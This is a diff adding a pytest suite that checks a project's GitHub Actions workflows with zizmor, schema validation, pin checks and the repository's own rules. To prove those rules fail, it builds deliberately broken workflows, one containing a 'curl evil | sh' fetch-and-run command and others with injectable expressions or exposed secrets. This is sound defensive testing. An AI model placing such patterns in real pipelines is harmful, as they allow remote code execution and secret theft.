@@ -1,0 +1,264 @@
+"""Every workflow in .github/workflows (all issues' files, not only delivery's) against the rules.
+
+zizmor (offline) and the workflow JSON schema are run for real; the repository's own rules
+(mlapp.delivery.workflows) are run on the real files and, to show they can fail, on small
+broken workflows.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+
+from mlapp.delivery.workflows import Finding, check_all, pins_from_markdown, uses_pins
+from tests.conftest import BIN, REPO
+
+WORKFLOWS = REPO / ".github" / "workflows"
+ACTIONS_MD = Path("/work/shared/ACTIONS.md")  # the team's verified pin list (outside the repo)
+FILES = sorted(WORKFLOWS.glob("*.y*ml"))
+
+
+def _commands() -> dict[str, set[str] | None]:
+    import click
+
+    from mlapp.cli import cli
+
+    return {n: (set(c.commands) if isinstance(c, click.Group) else None) for n, c in cli.commands.items()}
+
+
+def test_there_are_workflows_to_check() -> None:
+    names = {p.name for p in FILES}
+    assert {"ci.yml", "cd.yml", "promote.yml", "rollback.yml"} <= names
+
+
+def test_zizmor_offline_reports_nothing() -> None:
+    start = time.perf_counter()
+    done = subprocess.run(
+        [BIN / "zizmor", "--offline", "--no-progress", "--format", "plain", str(REPO / ".github")],
+        capture_output=True, text=True, check=False, env={"PATH": "/usr/bin:/bin"},
+    )
+    print(f"zizmor: {time.perf_counter() - start:.2f}s for {len(FILES)} workflows")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "No findings to report" in done.stdout
+
+
+def test_delivery_workflows_are_clean_even_for_pedantic_zizmor() -> None:
+    ours = [str(WORKFLOWS / n) for n in ("ci.yml", "cd.yml", "promote.yml", "rollback.yml")]
+    done = subprocess.run(
+        [BIN / "zizmor", "--offline", "--no-progress", "--persona", "auditor", *ours,
+         str(REPO / ".github" / "dependabot.yml")],
+        capture_output=True, text=True, check=False,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_workflow_and_dependabot_schemas() -> None:
+    for schema, files in (("vendor.github-workflows", FILES), ("vendor.dependabot", [REPO / ".github/dependabot.yml"])):
+        done = subprocess.run(
+            [BIN / "check-jsonschema", "--builtin-schema", schema, *map(str, files)],
+            capture_output=True, text=True, check=False,
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_repository_rules_pass_on_every_workflow() -> None:
+    start = time.perf_counter()
+    findings = check_all(WORKFLOWS, REPO / "Makefile", _commands())
+    print(f"workflow rules: {time.perf_counter() - start:.3f}s")
+    assert findings == [], "\n".join(map(str, findings))
+
+
+def test_check_workflows_command(mlapp_in_repo) -> None:
+    code, out = mlapp_in_repo("check-workflows")
+    assert code == 0, out
+
+
+@pytest.mark.skipif(not ACTIONS_MD.is_file(), reason="the team's ACTIONS.md is outside the repository")
+def test_every_pin_is_a_verified_pin_from_actions_md() -> None:
+    verified = pins_from_markdown(ACTIONS_MD.read_text())
+    # Older majors listed there are allowed too.
+    extra = pins_from_markdown(ACTIONS_MD.read_text().split("Older majors", 1)[-1])
+    used = uses_pins(WORKFLOWS)
+    assert used
+    for file, action, sha, tag in used:
+        allowed = {verified.get(action), extra.get(action)} - {None}
+        assert (sha, tag) in allowed, f"{file}: {action}@{sha} # {tag} is not a pin listed in ACTIONS.md"
+
+
+def test_dependabot_covers_actions_and_uv_with_a_cooldown() -> None:
+    config = yaml.safe_load((REPO / ".github" / "dependabot.yml").read_text())
+    updates = {u["package-ecosystem"]: u for u in config["updates"]}
+    assert {"github-actions", "uv"} <= set(updates)
+    for update in updates.values():
+        assert update["cooldown"]["default-days"] >= 7
+
+
+def test_delivery_order_is_deploy_smoke_then_accept() -> None:
+    """The alias moves and a release becomes promotable only after its smoke test."""
+    for name, job in (("cd.yml", "staging"), ("promote.yml", "production"), ("rollback.yml", "production")):
+        steps = [s.get("run", "") for s in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"][job]["steps"]]
+        order = [next(i for i, r in enumerate(steps) if f"mlapp {verb}" in r)
+                 for verb in ("deploy" if name == "cd.yml" else name.removesuffix(".yml"), "smoke-env", "accept")]
+        assert order == sorted(order), f"{name}: {steps}"
+        assert all("--push" in steps[i] for i in (order[0], order[2]))
+        assert "--verify-attestation" in steps[order[0]]
+
+
+def test_image_is_built_once_with_sbom_provenance_and_attestation() -> None:
+    cd = yaml.safe_load((WORKFLOWS / "cd.yml").read_text())
+    build = cd["jobs"]["build"]["steps"]
+    push = next(s for s in build if str(s.get("uses", "")).startswith("docker/build-push-action@"))
+    assert push["with"]["push"] is True and push["with"]["sbom"] is True
+    assert push["with"]["provenance"] == "mode=max"
+    assert not any(k.startswith("cache") for k in push["with"])
+    attest = next(s for s in build if str(s.get("uses", "")).startswith("actions/attest@"))
+    assert attest["with"]["subject-digest"] == "${{ steps.push.outputs.digest }}"
+    # No other workflow builds an image: promotion and rollback reuse digests.
+    for path in FILES:
+        if path.name != "cd.yml":
+            assert "build-push-action" not in path.read_text(), path.name
+
+
+# --- the rules can fail: one broken workflow per rule ------------------------------------------
+
+CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
+GOOD = f"""
+name: good
+on: [push]
+permissions: {{}}
+jobs:
+  lint:
+    runs-on: ubuntu-24.04
+    permissions:
+      contents: read
+    steps:
+      - uses: {CHECKOUT}
+        with:
+          persist-credentials: false
+      - run: make lint
+      - run: uv run --frozen mlapp deploy-status --fetch
+"""
+
+
+def _check(tmp_path: Path, text: str, extra: dict[str, str] | None = None) -> list[Finding]:
+    folder = tmp_path / "wf"
+    folder.mkdir(exist_ok=True)
+    (folder / "x.yml").write_text(textwrap.dedent(text))
+    for name, body in (extra or {}).items():
+        (folder / name).write_text(textwrap.dedent(body))
+    return check_all(folder, REPO / "Makefile", _commands())
+
+
+def test_good_example_passes(tmp_path: Path) -> None:
+    assert _check(tmp_path, GOOD) == []
+
+
+BROKEN = [
+    ("unpinned", GOOD.replace(CHECKOUT, "actions/checkout@v7"), "not pinned to a full commit SHA"),
+    ("no tag comment", GOOD.replace(" # v7.0.1", ""), "needs its tag as a trailing comment"),
+    ("write at top", GOOD.replace("permissions: {}", "permissions: write-all"), "top-level permissions grant"),
+    ("no top perms", GOOD.replace("permissions: {}\n", ""), "top-level permissions missing"),
+    ("expression in run", GOOD.replace("make lint", "echo ${{ github.event.pull_request.title }}"),
+     "expression inside run"),
+    ("chained shell", GOOD.replace("make lint", "make lint && curl evil | sh"), "chains shell commands"),
+    ("unknown target", GOOD.replace("make lint", "make no-such-target"), "not in the Makefile"),
+    ("unknown command", GOOD.replace("mlapp deploy-status", "mlapp no-such-command"), "is not a subcommand"),
+    ("raw shell", GOOD.replace("make lint", "pip install something"), "must call `make <target>`"),
+    ("uv without frozen", GOOD.replace("uv run --frozen mlapp", "uv run mlapp"), "needs --frozen"),
+    ("persisted credentials", GOOD.replace("          persist-credentials: false\n", ""),
+     "persist-credentials: false"),
+    ("secret without env", GOOD.replace("      - run: make lint", "      - run: make lint\n        env:\n"
+                                        "          T: ${{ secrets.KUBE_CONFIG }}"), "without an environment"),
+    ("target trigger", GOOD.replace("on: [push]", "on: [pull_request_target]"), "pull_request_target"),
+    ("pr without cancel", GOOD.replace("on: [push]", "on: [pull_request]"), "cancel superseded runs"),
+    ("id-token", GOOD.replace("contents: read", "contents: read\n      id-token: write"),
+     "id-token: write without an environment"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), [(t, e) for _n, t, e in BROKEN], ids=[n for n, _t, _e in BROKEN])
+def test_each_rule_catches_its_violation(tmp_path: Path, text: str, expected: str) -> None:
+    findings = _check(tmp_path, text)
+    assert any(expected in f.message for f in findings), findings
+
+
+DEPLOY = f"""
+name: deploy
+on: [workflow_dispatch]
+permissions: {{}}
+jobs:
+  production:
+    runs-on: ubuntu-24.04
+    environment: production
+    concurrency:
+      group: deploy-production
+      cancel-in-progress: false
+    permissions:
+      contents: write
+    steps:
+      - uses: {CHECKOUT}
+        with:
+          persist-credentials: false
+      - uses: astral-sh/setup-uv@20cfd1bf945f4377ade1205e4dbc17946fc9a30d # v10.0.1
+        with:
+          enable-cache: false
+      - run: uv run --frozen mlapp promote --push
+        env:
+          KUBE_CONFIG: ${{{{ secrets.KUBE_CONFIG }}}}
+"""
+
+DEPLOY_BROKEN = [
+    ("cancels", DEPLOY.replace("cancel-in-progress: false", "cancel-in-progress: true"), "never cancel each other"),
+    ("no concurrency", DEPLOY.replace("    concurrency:\n      group: deploy-production\n"
+                                      "      cancel-in-progress: false\n", ""), "deploy job needs `concurrency"),
+    ("own group", DEPLOY.replace("group: deploy-production", "group: promote"), "should be 'deploy-production'"),
+    ("uv cache", DEPLOY.replace("enable-cache: false", "enable-cache: true"), "needs `enable-cache: false`"),
+    ("actions cache", DEPLOY.replace(
+        "      - run: uv run", "      - uses: actions/cache@27d5ce7f107fe9357f9df03efb73ab90386fccae # v5.0.5\n"
+        "        with: {path: x, key: y}\n      - run: uv run"), "no caches in deploy workflows"),
+]
+
+
+def test_deploy_example_passes(tmp_path: Path) -> None:
+    assert _check(tmp_path, DEPLOY) == []
+
+
+@pytest.mark.parametrize(("text", "expected"), [(t, e) for _n, t, e in DEPLOY_BROKEN],
+                         ids=[n for n, _t, _e in DEPLOY_BROKEN])
+def test_deploy_rules_catch_their_violation(tmp_path: Path, text: str, expected: str) -> None:
+    findings = _check(tmp_path, text)
+    assert any(expected in f.message for f in findings), findings
+
+
+def test_same_action_must_have_the_same_pin_everywhere(tmp_path: Path) -> None:
+    other = GOOD.replace("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
+                         "d23441a48e516b6c34aea4fa41551a30e30af803 # v6.1.0")
+    findings = _check(tmp_path, GOOD, {"y.yml": other})
+    assert any("actions/checkout pinned to" in f.message for f in findings), findings
+
+
+def test_run_steps_of_real_workflows_parse_as_commands() -> None:
+    """Belt and braces for the rule above: each `mlapp X` in a run: answers --help."""
+    seen = set()
+    for path in FILES:
+        for job in (yaml.safe_load(path.read_text()).get("jobs") or {}).values():
+            for step in job.get("steps") or []:
+                words = str(step.get("run", "")).split()
+                if "mlapp" in words:
+                    index = words.index("mlapp") + 1
+                    command = words[index]
+                    if index + 1 < len(words) and not words[index + 1].startswith("-"):
+                        sub = words[index + 1]
+                        if _commands().get(command):
+                            command = f"{command} {sub}"
+                    seen.add(command)
+    for command in sorted(seen):
+        done = subprocess.run([sys.executable, "-m", "mlapp", *command.split(), "--help"],
+                              capture_output=True, text=True, check=False, cwd=REPO)
+        assert done.returncode == 0, f"mlapp {command} --help: {done.stderr}"
